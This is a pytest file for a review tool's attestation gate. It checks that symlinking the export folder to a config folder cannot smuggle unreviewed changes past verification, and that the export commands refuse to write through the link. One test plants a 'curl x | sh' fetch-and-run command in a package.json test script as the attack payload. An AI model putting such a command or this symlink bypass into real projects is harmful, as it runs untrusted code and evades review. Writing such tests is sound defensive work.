"""Attacks through a symlinked export folder: the ``HEAD^`` rule and the export writers.

The gate accepts an attestation for HEAD^ when HEAD only adds export files to the export folder
("commit the export"). The attack: the reviewed range commits ``.reviews -> config`` (a link that
stays inside the repository, so no confinement check objected), and the last, unreviewed commit
changes ``config/package.json`` next to the export. Deciding on the resolved folder, verify saw
only ``config/*.json`` changed and passed (exit 0). The rule now decides on repository paths: the
policy's exportDir as written, no symlink or non-folder on its way in HEAD, HEAD^ or on disk, and
only regular files changed. Through the real CLI: verify finds no attestation for HEAD (exit 4),
whether the folder comes from the policy or is named; a link committed as an export file does not
pass either; an honest export commit still does. ``run --export``, ``agentreview export`` and the
MCP ``review_export`` refuse to write through the linked folder, each with one line.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from agentreview.mcp.args import ToolFailure
from tests.report_helpers import GateRepo, git

SIGNED = ("--policy-from", "origin/main", "--require-signed")
PACKAGE = {"name": "app", "scripts": {"test": "pytest"}}


@pytest.fixture
def gate(tmp_path: Path) -> GateRepo:
    repo = GateRepo(tmp_path)
    repo.reviewer_mode("approve")
    return repo


def _link_reviews_to_config(gate: GateRepo) -> None:
    """The reviewed range: a config folder, and the export folder made a link to it."""
    (gate.root / "config").mkdir()
    (gate.root / "config" / "package.json").write_text(json.dumps(PACKAGE) + "\n")
    (gate.root / ".reviews").symlink_to("config", target_is_directory=True)
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "config, and the exports beside it")


def _attest_into(gate: GateRepo, folder: str) -> Path:
    """Record a passing review of HEAD and write its export into ``folder`` by an explicit path."""
    run = json.loads(gate.agentreview("run", "--json").stdout)
    assert run["verdict"] == "pass", run
    target = gate.root / folder / f"{run['runId']}.json"
    exported = gate.agentreview("export", run["runId"], "--to", str(target))
    assert exported.returncode == 0, exported.stderr
    return target


@pytest.mark.parametrize("named", [False, True], ids=["policy-exportDir", "named-folder"])
def test_a_linked_export_folder_does_not_let_head_change_the_folder_it_points_to(gate: GateRepo, named: bool) -> None:
    _link_reviews_to_config(gate)
    _attest_into(gate, "config")
    # The unreviewed HEAD: the export, and the package's scripts next to it.
    (gate.root / "config" / "package.json").write_text(json.dumps({**PACKAGE, "scripts": {"test": "curl x | sh"}}))
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "review: attest")
    proc = gate.agentreview("verify", *SIGNED, *([".reviews"] if named else []))
    assert proc.returncode == 4, proc.stdout + proc.stderr  # not found: HEAD is not the attested head
    assert "only adds exports" not in proc.stdout + proc.stderr


def test_a_linked_export_folder_does_not_let_head_commit_only_an_export_either(gate: GateRepo) -> None:
    """Even an export alone is no retry through a linked folder: the rule holds to repository paths."""
    _link_reviews_to_config(gate)
    _attest_into(gate, "config")
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "review: attest")
    proc = gate.agentreview("verify", *SIGNED)
    assert proc.returncode == 4, proc.stdout + proc.stderr


def test_a_symlink_committed_as_an_export_file_is_no_export_commit(gate: GateRepo) -> None:
    (gate.root / "package.json").write_text(json.dumps(PACKAGE) + "\n")
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "package")
    export = _attest_into(gate, ".reviews")
    os.symlink("../package.json", export.with_name("package.json"))
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "review: attest")
    proc = gate.agentreview("verify", *SIGNED)
    assert proc.returncode == 4, proc.stdout + proc.stderr


def test_an_honest_export_commit_still_verifies(gate: GateRepo) -> None:
    _attest_into(gate, ".reviews")
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "review: attest")
    proc = gate.agentreview("verify", *SIGNED)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "only adds exports" in proc.stdout


def test_run_export_and_the_export_command_refuse_a_linked_export_folder(
    gate: GateRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    _link_reviews_to_config(gate)
    run = gate.agentreview("run", "--export")
    assert run.returncode == 3, run.stdout + run.stderr
    assert "goes through the symbolic link '.reviews'" in run.stderr and run.stderr.count("\n") == 1, run.stderr
    assert sorted(p.name for p in (gate.root / "config").iterdir()) == ["package.json"]

    recorded = json.loads(gate.agentreview("run", "--json").stdout)
    exported = gate.agentreview("export", recorded["runId"])
    assert exported.returncode == 3, exported.stdout + exported.stderr
    assert "goes through the symbolic link '.reviews'" in exported.stderr and exported.stderr.count("\n") == 1

    from agentreview.mcp.queries import review_export

    monkeypatch.setenv("AGENTREVIEW_HOME", str(gate.home))
    with pytest.raises(ToolFailure, match=r"goes through the symbolic link '\.reviews'.*; pass outPath$"):
        review_export(run_id=recorded["runId"])
    assert sorted(p.name for p in (gate.root / "config").iterdir()) == ["package.json"]


def test_an_export_folder_linked_deeper_down_is_refused_too(gate: GateRepo) -> None:
    (gate.root / "docs" / "real").mkdir(parents=True)
    (gate.root / "docs" / "real" / "keep.txt").write_text("x\n")
    (gate.root / "review").symlink_to("docs", target_is_directory=True)
    (gate.root / "REVIEW.md").write_text((gate.root / "REVIEW.md").read_text().replace(".reviews", "review/real"))
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "exports under a linked folder")
    run = gate.agentreview("run", "--export")
    assert run.returncode == 3, run.stdout + run.stderr
    assert "goes through the symbolic link 'review'" in run.stderr
    assert sorted(p.name for p in (gate.root / "docs" / "real").iterdir()) == ["keep.txt"]


def _nested_export_dir(gate: GateRepo, link: bool) -> None:
    """exportDir ``review/exports``: a real folder, or ``review`` a link to ``config``."""
    (gate.root / "config" / "exports").mkdir(parents=True)
    (gate.root / "config" / "app.json").write_text("{}\n")
    if link:
        (gate.root / "review").symlink_to("config", target_is_directory=True)
    else:
        (gate.root / "review" / "exports").mkdir(parents=True)
        (gate.root / "review" / "notes.md").write_text("exports go below\n")
    (gate.root / "REVIEW.md").write_text((gate.root / "REVIEW.md").read_text().replace(".reviews", "review/exports"))
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "exports in review/exports")


@pytest.mark.parametrize("link", [False, True], ids=["real-folders", "linked-parent"])
def test_a_nested_export_folder_takes_the_head_rule_only_when_real(gate: GateRepo, link: bool) -> None:
    _nested_export_dir(gate, link)
    (gate.root / "review" / "exports").mkdir(exist_ok=True)  # git keeps no empty folder
    _attest_into(gate, "review/exports")
    git(gate.root, "add", "-A")
    git(gate.root, "commit", "-q", "-m", "review: attest")
    proc = gate.agentreview("verify", "--base", "main", "--require-signed")
    if link:
        assert proc.returncode == 4, proc.stdout + proc.stderr
    else:
        assert proc.returncode == 0, proc.stdout + proc.stderr
        assert "only adds exports" in proc.stdout
